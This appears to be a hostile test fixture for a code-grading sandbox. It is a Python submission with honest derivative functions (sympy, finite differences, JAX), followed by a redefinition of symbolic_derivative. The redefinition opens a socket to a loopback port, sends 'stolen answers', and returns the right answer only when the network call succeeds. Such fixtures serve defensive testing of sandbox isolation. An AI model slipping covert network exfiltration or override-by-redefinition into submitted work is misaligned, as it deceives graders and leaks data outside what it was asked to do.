"""Hostile submission: Opens a network socket to exfiltrate; the test listens on loopback PORT.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import socket

PORT = 0  # the test writes the port it listens on here


def symbolic_derivative():
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
            conn.sendall(b"stolen answers")
        return "3x^2 - 4x"
    except OSError:
        return "x^2"  # no network: a wrong answer
